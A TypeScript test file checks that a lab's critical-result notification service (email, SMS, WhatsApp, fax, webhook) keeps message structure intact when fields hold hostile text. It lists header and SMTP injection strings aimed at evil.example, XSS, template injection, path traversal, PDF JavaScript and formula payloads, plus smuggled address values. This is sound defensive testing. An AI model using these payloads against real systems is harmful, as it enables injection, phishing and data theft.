import { Parser } from 'htmlparser2';
import { simpleParser } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSender, openChannels, queueDeliveriesOver } from '../../src/delivery/index.ts';
import { createLogger } from '../../src/platform/log.ts';
import { type Lab, startLab } from '../lab.ts';
import { type HttpPeer, startHttpPeer } from '../peers/start-http-peer.ts';
import { type SmtpPeer, startSmtpPeer } from '../peers/start-smtp-peer.ts';
import { makeRequest, makeWorld, setSetting, T0, type World } from './delivery-world.ts';

/**
 * Foreign text in every field that a message can name, through every channel, to real servers that write down what reached
 * them. What may differ from a harmless message is words; no header, parameter, key, element, attribute, address or file
 * name may be more, fewer or other than there.
 */
const CORPUS = [
  'x\r\nBcc: thief@evil.example\r\n\r\n<h1>mine</h1>',
  'x\nX-Header: y\rSubject: other',
  '=?utf-8?B?DQpCY2M6IHRoaWVmQGV2aWwuZXhhbXBsZQ==?=',
  '"Ann" <thief@evil.example>, b@evil.example',
  '.\r\nQUIT\r\nMAIL FROM:<a@evil.example>',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></head><body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a><base href="//evil.example">',
  '<!--<style>*{display:none}</style>--><svg/onload=alert(1)>',
  '&lt;script&gt;&#x3c;b&#x3e;&NewLine;',
  '{{ labName }}{% for t in tests %}{% endfor %}{{ tests | safe }}{{ constructor.constructor("x")() }}',
  '<%= 7*7 %>#{7*7}${7*7}<?php echo 1 ?>',
  '&To=%2B19005550100&StatusCallback=http://evil.example/&MediaUrl=http://evil.example/x',
  '","to":"+19005550100","x":"',
  '\\","reports":[],"y":"\\u0000',
  ') Tj ET /OpenAction << /S /JavaScript /JS (app.alert(1)) >> BT (',
  '../../../../etc/passwd\u0000.pdf',
  '=HYPERLINK("http://evil.example","x")',
  '\u202e\u2066gnp.exe\u0007\u001b]0;x\u0007',
  'ى'.repeat(50) + '😀'.repeat(50),
];
const FIELDS = [
  'patient',
  'test',
  'parameter',
  'value',
  'unit',
  'comment',
  'recipient',
  'doctor',
  'caller',
  'lab',
  'order',
] as const;
type Field = (typeof FIELDS)[number];

let lab: Lab;
let smtp: SmtpPeer;
let text: HttpPeer;
let fax: HttpPeer;
let hub: HttpPeer;
let world: World;

beforeAll(async () => {
  [smtp, text, fax, hub] = await Promise.all([startSmtpPeer(), startHttpPeer(), startHttpPeer(), startHttpPeer()]);
  lab = await startLab({
    now: T0,
    roles: ['http'],
    env: {
      SMTP_URL: smtp.url,
      CALLOUT_TWILIO_URL: text.url,
      CALLOUT_TWILIO_ACCOUNT_SID: 'AC0123456789abcdef',
      CALLOUT_TWILIO_AUTH_TOKEN: 'token',
      CALLOUT_TWILIO_SMS_FROM: '+12125550100',
      CALLOUT_TWILIO_WHATSAPP_FROM: '+12125550101',
      CALLOUT_FAX_API_URL: `${fax.url}/faxes`,
      CALLOUT_FAX_API_KEY: 'key-of-the-service',
      CALLOUT_WEBHOOK_ALLOW: `127.0.0.1:${hub.port}`,
    },
  });
  world = await makeWorld(lab.db, 'practice', T0, lab.labId);
  const { labId } = world;
  await query("update doctors set phone = '+44 20 7946 0018', fax = '+44 20 7946 0019'");
  await query("update organizations set phone = '+44 20 7946 0028', fax = '+44 20 7946 0029'");
  await query('insert into organization_webhooks (lab_id, organization_id, url, updated_at) values ($1, $2, $3, $4)', [
    labId,
    world.organizationId,
    `${hub.url}/in`,
    T0,
  ]);
  const full = {
    mail_content: 'full',
    text_content: 'full',
    fax_content: 'full',
    webhook_content: 'full',
    callback_phone: '+44 20 7946 0000',
  };
  await setSetting(lab.db, labId, 'mail_settings', full);
  await setSetting(lab.db, labId, 'critical_notification_settings', { share_comment: 1 });
});
afterAll(async () => {
  await lab.close();
  await Promise.all([smtp, text, fax, hub].map((peer) => peer.stop()));
});

const query = (sql: string, values: unknown[] = []) => lab.db.pool.query(sql, values);

type Taken = { mails: ReturnType<SmtpPeer['witnessed']>; texts: Form[]; faxes: Fax[]; hooks: Hook[] };
type Form = URLSearchParams;
type Fax = Record<string, unknown> & { fileName: string; to: string; content: string };
type Hook = { headers: Record<string, string>; body: Record<string, unknown> };

/** One callout with this text in these fields, over every channel to doctor and organization; what the other sides wrote down. */
async function tell(hostile: string, fields: readonly Field[] = FIELDS): Promise<Taken> {
  const put = (field: Field, harmless: string): string =>
    // PostgreSQL keeps no NUL; intake has taken it out long before.
    fields.includes(field) ? hostile.replaceAll('\u0000', '') : harmless;
  await query('update labs set name = $1', [put('lab', 'Northgate Laboratory')]);
  await query('update patients set family_name = $1', [put('patient', 'Haddad')]);
  await query('update doctors set name = $1', [put('doctor', 'Dr. Ann Reyes')]);
  await query('update organizations set name = $1', [put('recipient', 'Ward 5')]);
  await query('update bills set bill_number = $1', [put('order', 'ORD-77')]);
  await query('update lab_reports set test_name = $1 where id = $2', [put('test', 'Potassium'), world.reportIds[0]]);
  await query(
    `with old as (update results set superseded_at = now() where lab_report_id = $1 and superseded_at is null returning *)
     insert into results (lab_id, lab_report_id, message_id, parameter_code, parameter_name, value, unit, status, received_at, verdict, is_critical, verdict_reason)
     select lab_id, lab_report_id, message_id, parameter_code, $2, $3, $4, 'F', received_at, 'critical-high', true, '' from old`,
    [world.reportIds[0], put('parameter', 'Potassium'), put('value', '6.8'), put('unit', 'mmol/L')],
  );
  const before = [smtp.witnessed().length, text.witnessed().length, fax.witnessed().length, hub.witnessed().length] as const;
  const open = openChannels(lab.deps.config);
  const request = await makeRequest(lab.db, world, {
    channels: ['email', 'sms', 'whatsapp', 'fax'],
    recipients: ['referral', 'organization'],
    labReportIds: world.reportIds.slice(0, 1),
    comment: put('comment', 'Repeat sample sent'),
    performedByName: put('caller', 'Sarah Vance'),
    now: lab.clock.now(),
  });
  const { missing } = await lab.db.inLab(lab.labId, (tx) => queueDeliveriesOver(open)(tx, request));
  expect(missing).toEqual([]);
  const sender = createSender({ db: lab.db, clock: lab.clock, log: createLogger('silent') }, open, {
    leaseMs: 30_000,
    tryMs: 20_000,
    atOnce: 16,
  });
  await sender.tick();
  await sender.idle();
  const utf8 = (body: string): string => Buffer.from(body, 'latin1').toString('utf8');
  return {
    mails: smtp.witnessed().slice(before[0]),
    texts: text
      .witnessed()
      .slice(before[1])
      .map(({ body }) => new URLSearchParams(utf8(body))),
    faxes: fax
      .witnessed()
      .slice(before[2])
      .map(({ body }) => JSON.parse(utf8(body)) as Fax),
    hooks: hub
      .witnessed()
      .slice(before[3])
      .map(({ headers, body }) => ({ headers, body: JSON.parse(utf8(body)) })),
  };
}

const headerNames = (head: string): string[] =>
  (head.split('\r\n\r\n')[0] ?? '')
    .split('\r\n')
    .filter((line) => !/^[ \t]/.test(line))
    .map((line) => line.split(':')[0] ?? '');

/** Every element with its attributes but not their text, in order. */
function skeleton(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => void found.push(`${name} ${Object.keys(attributes).sort().join(' ')}`),
    oncomment: () => void found.push('comment'),
  });
  parser.end(html);
  return found;
}
const keysOf = (value: unknown): unknown =>
  Array.isArray(value)
    ? value.map(keysOf)
    : typeof value === 'object' && value !== null
      ? Object.entries(value).map(([key, inner]) => [key, keysOf(inner)])
      : null;

/** What of a message may not depend on the words in it. */
async function structure({ mails, texts, faxes, hooks }: Taken) {
  const read = await Promise.all(
    mails.map(async ({ from, to, head }) => {
      const mail = await simpleParser(Buffer.from(head, 'latin1'));
      return { from, to, headers: headerNames(head), parts: mail.attachments.length, html: skeleton(String(mail.html)) };
    }),
  );
  const byText = (a: unknown, b: unknown): number => (JSON.stringify(a) < JSON.stringify(b) ? -1 : 1);
  return {
    mails: read.sort(byText),
    texts: texts.map((form) => [...form.keys(), form.get('To')]).sort(byText),
    faxes: faxes.map((body) => [Object.keys(body), body.to]).sort(byText),
    hooks: hooks.map(({ headers, body }) => [Object.keys(headers).sort(), keysOf(body)]).sort(byText),
  };
}

let harmless: Awaited<ReturnType<typeof structure>>;
beforeAll(async () => {
  // Twice: from the second time on each message is a reminder, and its words are those of one.
  await tell('harmless');
  harmless = await structure(await tell('harmless'));
});

it('reaches every peer, harmless as it is', () => {
  expect([harmless.mails.length, harmless.texts.length, harmless.faxes.length, harmless.hooks.length]).toEqual([2, 4, 2, 1]);
});

describe('whatever stands in every field at once', () => {
  it.each(CORPUS)('%j changes words and nothing else', async (hostile) => {
    const taken = await tell(hostile);
    expect(await structure(taken)).toEqual(harmless);
    for (const body of taken.faxes) {
      expect(body.fileName).toMatch(/^critical-result-2026-05-04-[0-9a-f]{12}\.pdf$/);
      const pdf = Buffer.from(body.content, 'base64').toString('latin1');
      expect(pdf.startsWith('%PDF-')).toBe(true);
      expect(pdf).not.toMatch(/\/(JavaScript|JS|OpenAction|AA|Launch|URI|EmbeddedFile|SubmitForm)\b/);
    }
    for (const form of taken.texts) expect(form.get('Body')).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202a-\u202e]/);
    for (const { head } of taken.mails) expect(head.split('\r\n\r\n')[0]).not.toMatch(/[^\x20-\x7e\r\n\t]/);
  });
});

describe('an address that is more than an address', () => {
  const ADDRESSES = {
    email: [
      'a@b.example\r\nBcc: c@d.example',
      'a@b.example,c@d.example',
      'a@b.example>\r\nRCPT TO:<c@d.example',
      '"a b"@b.example',
      'A <a@b.example>',
      'a@b.example;c@d.example',
      'a@[127.0.0.1]',
      'a@b.example%0d%0aBcc:c@d.example',
      'ä@b.example',
      '-a@b..example',
    ],
    number: [
      '+12125550100&From=+19005550100',
      '+12125550100\r\nX: y',
      'whatsapp:+12125550100',
      '+1212555010012125550100',
      '+442079460019@evil.example',
      '+44 20 7946 0019,+19005550100',
      '4711',
      '+44 20 7946 0019;ext=9',
      '+٤٤٢٠٧٩٤٦٠٠١٩',
      '../faxes?to=+19005550100',
      '+1(212)555<script>',
    ],
  };
  const CASES = [
    ...ADDRESSES.email.map((address) => ['email', address] as const),
    ...(['sms', 'whatsapp', 'fax'] as const).flatMap((channel) => ADDRESSES.number.map((address) => [channel, address] as const)),
  ];
  it.each(CASES)('%s to %j is named as missing, and nothing is queued', async (channel, address) => {
    const other = { name: 'X', email: address, faxNumber: address, contactNumber: address };
    const request = await makeRequest(lab.db, world, { channels: [channel], recipients: ['others'], other });
    const answer = await lab.db.inLab(lab.labId, (tx) => queueDeliveriesOver(openChannels(lab.deps.config))(tx, request));
    expect(answer).toMatchObject({ queued: [], missing: [{ channel, reason: expect.stringMatching(/^other recipient: /) }] });
  });
});
